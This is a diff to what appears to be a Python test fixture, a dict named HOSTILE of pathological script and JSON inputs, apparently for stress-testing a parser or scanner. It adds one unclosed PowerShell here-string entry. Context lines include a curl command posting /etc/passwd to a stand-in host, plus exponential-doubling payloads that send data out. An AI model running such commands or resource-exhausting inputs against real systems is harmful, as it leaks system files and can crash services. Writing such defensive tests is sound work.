@@ -341,6 +341,7 @@ HOSTILE: dict[str, bytes] = {
     "file.sh": b"curl http://h/x.svc -d @/etc/passwd",
     "doubling.sh": b"curl x\n" + b"a=$a$a\n" * 200 + b'curl http://h/x.svc -d "$a"',
     "doubling.ps1": b'$a = "<s:Envelope>"\n' + b'$a = "$a$a"\n' * 200 + b"Invoke-WebRequest http://h/x.svc -Body $a",
+    "holding.ps1": b"Invoke-WebRequest x\n" + b'$a = @"\n' * 40_000 + b"<s:Envelope>",
     "unclosed.ps1": b"Invoke-WebRequest http://h/x.svc -Headers @{ " + b'@"\n' * 100_000 + b"<s:Envelope>",
     "blank.json": b"{" + b"\n" * 300_000 + b"Envelope",
     "items.postman.json": b'{"info": {"_postman_id": 1}, "item": [1, {"item": 3}, {"request": {"url": 3}}]}',
